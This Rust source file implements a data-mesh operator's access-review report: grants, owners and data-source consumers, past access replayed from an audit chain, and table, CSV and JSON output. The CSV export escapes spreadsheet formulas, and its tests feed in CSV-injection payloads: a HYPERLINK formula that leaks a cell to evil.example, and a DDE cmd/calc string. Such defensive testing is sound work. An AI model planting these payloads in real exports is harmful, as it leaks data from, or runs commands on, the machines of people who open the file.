//! `drmesh access-review`: who can access what, through which policy, for what purpose
//! and until when — the document a security officer signs. Every row comes from the
//! pure core's decisions (grant plans, product plans, allowed source consumers), so it
//! says what the operator enforces, including the refusals and their reasons.

use std::fmt::Write as _;

use jiff::Timestamp;
use kube::ResourceExt;
use serde::Serialize;

use crate::api::{DataProduct, SubjectKind};
use crate::mesh::rules::{self, InputKey, subject_display};
use crate::mesh::source::SecretState;
use crate::mesh::source::lends_to;
use crate::mesh::{MeshView, Snapshot};

/// Status of a row whose access is in force.
pub const GRANTED: &str = "Granted";
/// The status of an access the chain records in force at `--at`, ended later by a change
/// made while no operator led that may have been made before `--at`.
pub const UNCONFIRMED: &str = "UnconfirmedWhileNoOperatorLed";

/// One subject's access to one object.
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
pub struct Access {
    /// `DataProduct` or `DataSource`.
    pub kind: String,
    pub namespace: String,
    pub name: String,
    pub classification: String,
    /// `Kind:name` or `Kind:namespace/name`, as in audit records.
    pub subject: String,
    /// What the subject gets: `api+proxy` (RBAC: read the product, its Service and the
    /// proxy, on the grant's ports), `network` (connections from its pods: a Namespace's
    /// on the grant's ports, a DataProduct's on those its declared input opens),
    /// `credentials+egress` (a source's Secret and its endpoint).
    pub access: String,
    /// `port/name` of each reachable port.
    pub ports: Vec<String>,
    /// `AccessPolicy ns/name`, `owner`, or `input`.
    pub via: String,
    pub purpose: Option<String>,
    /// RFC 3339; none: until the grant is deleted.
    pub until: Option<String>,
    /// `Granted`, or the reason it is refused (ClearanceTooLow, Expired, ...).
    pub status: String,
    /// The clearance the access rests on: a person's own (`Restricted until ...`, or
    /// `none`), a workload's domain (`domain cnc: Restricted`).
    pub clearance: String,
    /// Approvers whose signatures of the grant's spec count (Restricted grants).
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub approved_by: Vec<String>,
    /// RFC 3339: the grant's start, if it has one.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub starts: Option<String>,
    /// RFC 3339: when the grant is due for reassessment, if it is to be.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub reassess_by: Option<String>,
}

impl Access {
    pub fn granted(&self) -> bool {
        self.status == GRANTED
    }
    pub fn object(&self) -> String {
        format!("{} {}/{}", self.kind, self.namespace, self.name)
    }
}

fn port_labels(ports: &[(i32, String)]) -> Vec<String> {
    ports.iter().map(|(n, name)| format!("{n}/{name}")).collect()
}

fn all_ports(product: &DataProduct) -> Vec<String> {
    port_labels(&product.spec.output_ports.iter().map(|p| (p.port, p.name.clone())).collect::<Vec<_>>())
}

fn subject_access(kind: SubjectKind) -> &'static str {
    match kind {
        SubjectKind::User | SubjectKind::Group | SubjectKind::ServiceAccount | SubjectKind::DataProduct => "api+proxy",
        SubjectKind::Namespace => "network",
    }
}

/// The granted ports a consumer product's pods actually reach: its own isolation opens
/// egress only to the inputs it declares, on the ports it asks for (all when it names
/// none) that some grant gives it.
fn reached_ports(
    view: &Snapshot,
    consumer: &crate::api::Subject,
    namespace: &str,
    product: &str,
    granted: &[(i32, String)],
    now: Timestamp,
) -> Vec<(i32, String)> {
    let (Some(ns), Some(name)) = (consumer.namespace.as_deref(), consumer.name.as_deref()) else {
        return vec![];
    };
    let Some(consumer) = view.product(ns, name) else {
        return vec![];
    };
    let plan = rules::plan_product(view, &consumer, now);
    if !plan.runnable() {
        return vec![];
    }
    let open: Vec<i32> = plan
        .inputs
        .iter()
        .filter_map(|i| match &i.outcome {
            Ok(rules::Reach::Product { key, ports, .. }) if key.namespace == namespace && key.name == product => {
                Some(ports.clone())
            }
            _ => None,
        })
        .flatten()
        .collect();
    granted.iter().filter(|(n, _)| open.contains(n)).cloned().collect()
}

/// Every access the mesh gives or refuses at `now`, ordered by object, then granted
/// before refused, then subject.
pub fn review(view: &Snapshot, now: Timestamp) -> Vec<Access> {
    let mut rows = Vec::new();
    for policy in view.policies.values() {
        let namespace = policy.namespace().unwrap_or_default();
        let plan = rules::plan_grant(view, policy, now);
        let classification =
            plan.product.as_ref().map(|p| p.spec.classification.to_string()).unwrap_or_else(|| "Unknown".into());
        let approved_by = plan.approvals.as_ref().map(|a| a.valid.clone()).unwrap_or_default();
        let row = |subject: &crate::api::Subject, ports: Vec<String>, status: String| Access {
            kind: "DataProduct".into(),
            namespace: namespace.clone(),
            name: policy.spec.data_product.clone(),
            classification: classification.clone(),
            subject: subject_display(subject),
            access: subject_access(subject.kind).into(),
            ports,
            via: format!("AccessPolicy {namespace}/{}", policy.name_any()),
            purpose: policy.spec.purpose.clone(),
            until: plan.expires_at.map(|t| t.to_string()),
            status,
            clearance: subject_clearance(view, subject, now),
            approved_by: approved_by.clone(),
            starts: policy.spec.starts_at.clone(),
            reassess_by: policy.spec.reassess_by.clone(),
        };
        let granted = plan.grants_anything();
        for subject in &plan.effective {
            let status = if granted { GRANTED.to_string() } else { rules::Reason::NoSubjectGranted.to_string() };
            rows.push(row(subject, port_labels(&plan.ports), status.clone()));
            // A product's pods connect too: on the granted ports its declared input opens.
            if subject.kind == SubjectKind::DataProduct && granted {
                let reached = reached_ports(view, subject, &namespace, &policy.spec.data_product, &plan.ports, now);
                if !reached.is_empty() {
                    let mut network = row(subject, port_labels(&reached), status);
                    network.access = "network".into();
                    rows.push(network);
                }
            }
        }
        for (subject, problem) in &plan.denied {
            let ports = policy.spec.ports.clone().unwrap_or_default();
            rows.push(row(subject, ports, problem.reason.to_string()));
        }
    }
    for product in view.products.values() {
        let namespace = product.namespace().unwrap_or_default();
        // Owners read the data (the proxy) only where the plan says so: see the guide.
        let reads_data = rules::plan_product(view, product, now).owners_read_data;
        for owner in &product.spec.owners {
            let person = crate::api::Subject::named(
                if owner.kind == crate::api::OwnerKind::User { SubjectKind::User } else { SubjectKind::Group },
                owner.name.clone(),
            );
            rows.push(Access {
                kind: "DataProduct".into(),
                namespace: namespace.clone(),
                name: product.name_any(),
                classification: product.spec.classification.to_string(),
                subject: format!("{:?}:{}", owner.kind, owner.name),
                access: if reads_data { "api+proxy" } else { "api" }.into(),
                ports: if reads_data { all_ports(product) } else { vec![] },
                via: "owner".into(),
                purpose: None,
                until: None,
                status: GRANTED.into(),
                clearance: subject_clearance(view, &person, now),
                approved_by: vec![],
                starts: None,
                reassess_by: None,
            });
        }
    }
    for source in view.sources.values() {
        let namespace = source.namespace().unwrap_or_default();
        let name = source.name_any();
        let secret =
            view.secret_state(&namespace, &source.spec.credentials_secret_ref.name).unwrap_or(SecretState::Released);
        let allowed = lends_to(view, source, secret);
        let access = if source.spec.endpoint.cidr.is_some() { "credentials+egress" } else { "credentials" };
        for user in view.products_using_source(&namespace, &name) {
            let status = if allowed.contains(&user.name_any()) {
                GRANTED.to_string()
            } else {
                let plan = rules::plan_product(view, &user, now);
                let input_problem = plan
                    .inputs
                    .iter()
                    .find(|i| i.input == InputKey::Source(name.clone()))
                    .and_then(|i| i.outcome.as_ref().err());
                input_problem.or(plan.blocker.as_ref()).map(|p| p.reason.to_string()).unwrap_or_else(|| "Denied".into())
            };
            rows.push(Access {
                kind: "DataSource".into(),
                namespace: namespace.clone(),
                name: name.clone(),
                classification: source.spec.classification.to_string(),
                subject: format!("DataProduct:{namespace}/{}", user.name_any()),
                access: access.into(),
                ports: vec![format!("{}/endpoint", source.spec.endpoint.port)],
                via: "input".into(),
                purpose: None,
                until: None,
                status,
                clearance: format!("domain {namespace}: {}", view.clearance(&namespace)),
                approved_by: vec![],
                starts: None,
                reassess_by: None,
            });
        }
    }
    rows.sort_by(|a, b| {
        (&a.namespace, &a.name, &a.kind, !a.granted(), &a.subject, &a.via).cmp(&(
            &b.namespace,
            &b.name,
            &b.kind,
            !b.granted(),
            &b.subject,
            &b.via,
        ))
    });
    rows
}

/// What the audit chain says was in force at `at` (see [`crate::reads::replay`]): one row
/// per subject of each grant recorded as in force then, `Expired` when its `expiresAt` had
/// passed, with the ports its record names; and one row per ServiceAccount a DataSource's
/// credentials were lent to then (`CredentialsLent` up to `CredentialsWithdrawn`). The
/// chain does not record clearances or approvals (left empty), nor the ports of owners'
/// access, of records written before ports were recorded, or of a source's endpoint:
/// `ports` says `not recorded`.
pub fn from_chain(windows: &[crate::reads::Window], at: Timestamp) -> Vec<Access> {
    let mut rows: Vec<Access> = windows
        .iter()
        .filter(|w| w.open_at(at))
        .flat_map(|w| {
            let status = match () {
                _ if !w.grants_at(at) => rules::Reason::Expired.to_string(),
                // Ended by a change made while no operator led, maybe before `at`.
                _ if w.unconfirmed_at(at) => UNCONFIRMED.to_string(),
                _ => GRANTED.to_string(),
            };
            let credentials = !w.via.gives_reads();
            let ports = if w.ports.is_empty() { vec!["not recorded".to_string()] } else { w.ports.clone() };
            w.subjects.iter().map(move |subject| Access {
                kind: if credentials { "DataSource" } else { "DataProduct" }.into(),
                namespace: w.product.namespace.clone(),
                name: w.product.name.clone(),
                classification: w.classification.clone(),
                subject: subject.clone(),
                access: match subject.split_once(':').map(|(kind, _)| kind) {
                    _ if credentials => "credentials",
                    Some("Namespace") => "network",
                    _ => "api+proxy",
                }
                .into(),
                ports: ports.clone(),
                via: match () {
                    _ if credentials => "input".into(),
                    _ if w.via.name.is_empty() => "owner".into(),
                    _ => w.via.to_string(),
                },
                purpose: w.purpose.clone(),
                until: w.expires_at.map(|t| t.to_string()),
                status: status.clone(),
                clearance: String::new(),
                approved_by: vec![],
                starts: Some(w.from.to_string()),
                reassess_by: None,
            })
        })
        .collect();
    rows.sort_by(|a, b| {
        (&a.namespace, &a.name, &a.kind, !a.granted(), &a.subject, &a.via).cmp(&(
            &b.namespace,
            &b.name,
            &b.kind,
            !b.granted(),
            &b.subject,
            &b.via,
        ))
    });
    rows
}

/// The clearance an access rests on, for the review.
fn subject_clearance(view: &dyn crate::mesh::MeshView, subject: &crate::api::Subject, now: Timestamp) -> String {
    match (crate::mesh::people::person_kind(subject.kind), rules::subject_namespace(subject)) {
        (Some(kind), _) => {
            match crate::mesh::people::clearance_in_force(view, kind, subject.name.as_deref().unwrap_or(""), now) {
                Some((level, until)) => format!("{level} until {until}"),
                None => "none".into(),
            }
        }
        (None, Some(ns)) => format!("domain {ns}: {}", view.clearance(ns)),
        (None, None) => String::new(),
    }
}

const HEADERS: [&str; 13] = [
    "OBJECT",
    "CLASSIFICATION",
    "SUBJECT",
    "ACCESS",
    "PORTS",
    "VIA",
    "PURPOSE",
    "CLEARANCE",
    "APPROVED BY",
    "STARTS",
    "REASSESS BY",
    "UNTIL",
    "STATUS",
];

fn fields(a: &Access) -> [String; 13] {
    [
        a.object(),
        a.classification.clone(),
        a.subject.clone(),
        a.access.clone(),
        if a.ports.is_empty() { "all".into() } else { a.ports.join(",") },
        a.via.clone(),
        a.purpose.clone().unwrap_or_default(),
        a.clearance.clone(),
        a.approved_by.join(","),
        a.starts.clone().unwrap_or_default(),
        a.reassess_by.clone().unwrap_or_default(),
        a.until.clone().unwrap_or_else(|| "no expiry".into()),
        a.status.clone(),
    ]
}

/// Most characters of a purpose in the table (CSV and JSON have it whole).
const PURPOSE_WIDTH: usize = 48;

/// An aligned table for people.
pub fn table(rows: &[Access]) -> String {
    let cells: Vec<[String; 13]> = rows
        .iter()
        .map(|a| {
            let mut f = fields(a);
            if f[6].chars().count() > PURPOSE_WIDTH {
                f[6] = f[6].chars().take(PURPOSE_WIDTH - 1).collect::<String>() + "…";
            }
            f
        })
        .collect();
    let mut widths = HEADERS.map(|h| h.chars().count());
    for row in &cells {
        for (w, cell) in widths.iter_mut().zip(row) {
            *w = (*w).max(cell.chars().count());
        }
    }
    let mut out = String::new();
    let mut line = |cols: &[String]| {
        let mut text = String::new();
        for (i, (cell, w)) in cols.iter().zip(widths).enumerate() {
            if i + 1 == cols.len() {
                text.push_str(cell);
            } else {
                let pad = w.saturating_sub(cell.chars().count());
                let _ = write!(text, "{cell}{}  ", " ".repeat(pad));
            }
        }
        out.push_str(text.trim_end());
        out.push('\n');
    };
    line(&HEADERS.map(String::from));
    for row in &cells {
        line(row);
    }
    out
}

/// A CSV cell. A cell a spreadsheet would read as a formula (`=`, `+`, `-`, `@`, tab or
/// CR first: a purpose is anyone's text) is prefixed with `'` and quoted, as OWASP advises.
fn csv_field(text: &str) -> String {
    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        return format!("\"'{}\"", text.replace('"', "\"\""));
    }
    if text.contains([',', '"', '\n', '\r']) { format!("\"{}\"", text.replace('"', "\"\"")) } else { text.to_string() }
}

/// RFC 4180 CSV with a header row, safe to open in a spreadsheet (no formula cells).
pub fn csv(rows: &[Access]) -> String {
    let header = [
        "kind",
        "namespace",
        "name",
        "classification",
        "subject",
        "access",
        "ports",
        "via",
        "purpose",
        "clearance",
        "approved_by",
        "starts",
        "reassess_by",
        "until",
        "status",
    ];
    let mut out = header.join(",") + "\r\n";
    for a in rows {
        let cols = [
            a.kind.clone(),
            a.namespace.clone(),
            a.name.clone(),
            a.classification.clone(),
            a.subject.clone(),
            a.access.clone(),
            a.ports.join(" "),
            a.via.clone(),
            a.purpose.clone().unwrap_or_default(),
            a.clearance.clone(),
            a.approved_by.join(" "),
            a.starts.clone().unwrap_or_default(),
            a.reassess_by.clone().unwrap_or_default(),
            a.until.clone().unwrap_or_default(),
            a.status.clone(),
        ];
        out.push_str(&cols.iter().map(|c| csv_field(c)).collect::<Vec<_>>().join(","));
        out.push_str("\r\n");
    }
    out
}

/// A JSON array of rows.
pub fn json(rows: &[Access]) -> String {
    let mut out = serde_json::to_string_pretty(rows).unwrap_or_default();
    out.push('\n');
    out
}

#[cfg(test)]
mod tests {
    use std::path::Path;

    use super::*;
    use crate::admission::Admission;
    use crate::snapshot::load_path;

    fn rows(now: &str) -> Vec<Access> {
        let admission = Admission::new().expect("schemas");
        let samples = Path::new(concat!(env!("CARGO_MANIFEST_DIR"), "/../../config/samples"));
        let mesh = load_path(samples, &admission).expect("samples");
        review(&mesh.snapshot, now.parse().expect("time"))
    }

    #[test]
    fn the_chain_says_who_could_read_at_a_past_instant() {
        use crate::audit::{Chain, Decision, Event, ObjectRef, PolicyRef};
        let event = |time: &str, decision, subjects: &[&str]| Event {
            time: time.into(),
            actor: "drmesh".into(),
            decision,
            reason: "Granted".into(),
            message: String::new(),
            product: ObjectRef { namespace: "police".into(), name: "incident-feed".into() },
            classification: "Restricted".into(),
            subjects: subjects.iter().map(|s| s.to_string()).collect(),
            purpose: Some("situation picture".into()),
            expires_at: Some("2026-11-28T14:00:00Z".into()),
            policy: Some(PolicyRef { namespace: "police".into(), name: "cnc".into(), uid: "u".into(), generation: 1 }),
            ports: vec![],
            while_no_operator_led: None,
        };
        let mut chain = Chain::default();
        // The edit dropping alice was made while no operator led, after 12:45, and found at 13:00.
        let mut edit = event("2026-11-28T13:00:00Z", Decision::Granted, &["Group:cnc-officers"]);
        edit.while_no_operator_led = Some(crate::audit::Unled {
            head: "0:abc".into(),
            after: "2026-11-28T12:45:00Z".into(),
            before: "2026-11-28T13:00:00Z".into(),
        });
        let records: Vec<_> =
            [event("2026-11-28T12:00:00Z", Decision::Granted, &["Group:cnc-officers", "User:alice"]), edit]
                .into_iter()
                .map(|e| chain.append(e))
                .collect();
        let windows = crate::reads::replay(&records);
        let at = |t: &str| from_chain(&windows, t.parse().expect("time"));
        let subjects = |rows: Vec<Access>| rows.into_iter().map(|a| (a.subject, a.status)).collect::<Vec<_>>();
        assert!(at("2026-11-28T11:59:59Z").is_empty());
        let noon = at("2026-11-28T12:30:00Z");
        assert_eq!(noon[0].via, "AccessPolicy police/cnc");
        assert_eq!(noon[0].ports, ["not recorded"]);
        assert_eq!(
            subjects(noon),
            [("Group:cnc-officers".to_string(), GRANTED.to_string()), ("User:alice".into(), GRANTED.into())]
        );
        assert_eq!(
            subjects(at("2026-11-28T12:50:00Z")),
            [("Group:cnc-officers".to_string(), UNCONFIRMED.to_string()), ("User:alice".into(), UNCONFIRMED.into())],
            "between the previous leader's last record and the take-over, the chain cannot say"
        );
        assert_eq!(subjects(at("2026-11-28T13:30:00Z")), [("Group:cnc-officers".to_string(), GRANTED.to_string())]);
        assert_eq!(subjects(at("2026-11-28T14:00:00Z")), [("Group:cnc-officers".to_string(), "Expired".to_string())]);
    }

    #[test]
    fn the_chain_says_which_credentials_were_lent_and_which_ports_granted_at_a_past_instant() {
        use crate::audit::{Chain, Decision, Event, ObjectRef, PolicyRef};
        let event = |time: &str, decision, reason: &str, product: &str, subjects: &[&str], ports: &[&str]| Event {
            time: time.into(),
            actor: "drmesh".into(),
            decision,
            reason: reason.into(),
            message: String::new(),
            product: ObjectRef { namespace: "police".into(), name: product.into() },
            classification: "Restricted".into(),
            subjects: subjects.iter().map(|s| s.to_string()).collect(),
            purpose: None,
            expires_at: None,
            policy: (reason == "Granted").then(|| PolicyRef {
                namespace: "police".into(),
                name: "cnc".into(),
                uid: "u".into(),
                generation: 1,
            }),
            ports: ports.iter().map(|p| p.to_string()).collect(),
            while_no_operator_led: None,
        };
        let (lent, taken) = (Decision::Granted, Decision::Revoked);
        let mut chain = Chain::default();
        let records: Vec<_> = [
            event(
                "2026-11-28T12:00:00Z",
                lent,
                "CredentialsLent",
                "incident-db",
                &["ServiceAccount:police/feed", "ServiceAccount:police/stats"],
                &[],
            ),
            event(
                "2026-11-28T12:10:00Z",
                Decision::Granted,
                "Granted",
                "feed",
                &["Group:cnc-officers"],
                &["8080/http", "9090/grpc"],
            ),
            event(
                "2026-11-28T13:00:00Z",
                taken,
                "CredentialsWithdrawn",
                "incident-db",
                &["ServiceAccount:police/stats"],
                &[],
            ),
            event(
                "2026-11-28T14:00:00Z",
                taken,
                "CredentialsWithdrawn",
                "incident-db",
                &["ServiceAccount:police/feed"],
                &[],
            ),
        ]
        .into_iter()
        .map(|e| chain.append(e))
        .collect();
        let windows = crate::reads::replay(&records);
        let at = |t: &str| from_chain(&windows, t.parse().expect("time"));
        let rows = |t: &str| {
            at(t)
                .into_iter()
                .map(|a| format!("{} {} {} {} {}", a.object(), a.subject, a.access, a.via, a.ports.join(",")))
                .collect::<Vec<_>>()
        };
        assert!(at("2026-11-28T11:59:59Z").is_empty());
        assert_eq!(
            rows("2026-11-28T12:30:00Z"),
            [
                "DataProduct police/feed Group:cnc-officers api+proxy AccessPolicy police/cnc 8080/http,9090/grpc",
                "DataSource police/incident-db ServiceAccount:police/feed credentials input not recorded",
                "DataSource police/incident-db ServiceAccount:police/stats credentials input not recorded",
            ]
        );
        assert_eq!(at("2026-11-28T12:30:00Z")[1].starts.as_deref(), Some("2026-11-28T12:00:00Z"));
        assert_eq!(
            rows("2026-11-28T13:30:00Z")[1..],
            ["DataSource police/incident-db ServiceAccount:police/feed credentials input not recorded"]
        );
        assert_eq!(rows("2026-11-28T14:00:00Z").len(), 1, "both taken back: the grant alone");
    }

    #[test]
    fn lists_grants_owners_and_source_consumers() {
        let rows = rows("2026-06-01T00:00:00Z");
        let find = |subject: &str, name: &str, via: &str| {
            rows.iter().find(|a| a.subject == subject && a.name == name && a.via == via).cloned()
        };
        let officers =
            find("Group:cnc-officers", "incident-feed", "AccessPolicy police/incident-feed-cnc").expect("officers row");
        assert_eq!(officers.status, GRANTED);
        assert_eq!(officers.until.as_deref(), Some("2027-12-31T23:59:59Z"));
        assert_eq!(officers.ports, ["8080/http"]);
        assert!(officers.purpose.as_deref().is_some_and(|p| p.starts_with("Build the national situation picture")));
        let analysts = find(
            "Group:transport-analysts",
            "transit-disruptions",
            "AccessPolicy transport/transit-disruptions-analysts",
        )
        .expect("analysts");
        assert_eq!(
            (analysts.ports.as_slice(), analysts.until.as_deref()),
            (["8080/http".to_string()].as_slice(), None)
        );
        assert!(find("Group:police-data-owners", "incident-feed", "owner").is_some());
        let consumer = find("DataProduct:police/incident-feed", "incident-db", "input").expect("source consumer");
        assert_eq!((consumer.access.as_str(), consumer.status.as_str()), ("credentials+egress", GRANTED));
        assert!(rows.iter().all(Access::granted), "the reference mesh refuses nothing");
    }

    #[test]
    fn expired_grants_are_listed_with_their_reason() {
        let rows = rows("2028-01-01T00:00:00Z");
        let expired: Vec<&Access> = rows.iter().filter(|a| a.status == rules::Reason::Expired).collect();
        assert_eq!(expired.len(), 11, "{expired:#?}");
    }

    #[test]
    fn csv_and_table_escape_and_align() {
        let rows = rows("2026-06-01T00:00:00Z");
        let text = csv(&rows);
        assert!(
            text.starts_with(
                "kind,namespace,name,classification,subject,access,ports,via,purpose,clearance,approved_by,starts,reassess_by,until,status\r\n"
            )
        );
        assert_eq!(text.lines().count(), rows.len() + 1);
        assert_eq!(csv_field("a,\"b\""), "\"a,\"\"b\"\"\"");
        assert_eq!(csv_field("plain text"), "plain text");
        assert_eq!(csv_field("a-b=c"), "a-b=c");
        let table = table(&rows);
        assert!(table.starts_with("OBJECT"));
        assert_eq!(table.lines().count(), rows.len() + 1);
    }

    #[test]
    fn csv_cells_never_start_a_formula() {
        for (cell, expected) in [
            (
                "=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")",
                "\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"x\"\")\"",
            ),
            ("+1+1", "\"'+1+1\""),
            ("-2+3", "\"'-2+3\""),
            ("@SUM(A1)", "\"'@SUM(A1)\""),
            ("\t=1", "\"'\t=1\""),
            ("\r=1", "\"'\r=1\""),
        ] {
            assert_eq!(csv_field(cell), expected, "{cell:?}");
        }
        let mut rows = rows("2026-06-01T00:00:00Z");
        rows[0].purpose = Some("=cmd|' /C calc'!A0".into());
        let text = csv(&rows);
        let first = text.lines().nth(1).expect("a row");
        assert!(first.contains(",\"'=cmd|' /C calc'!A0\","), "{first}");
        for line in text.lines() {
            for cell in line.split(',') {
                assert!(!cell.starts_with(['=', '+', '-', '@']), "a formula cell in {line}");
            }
        }
    }
}
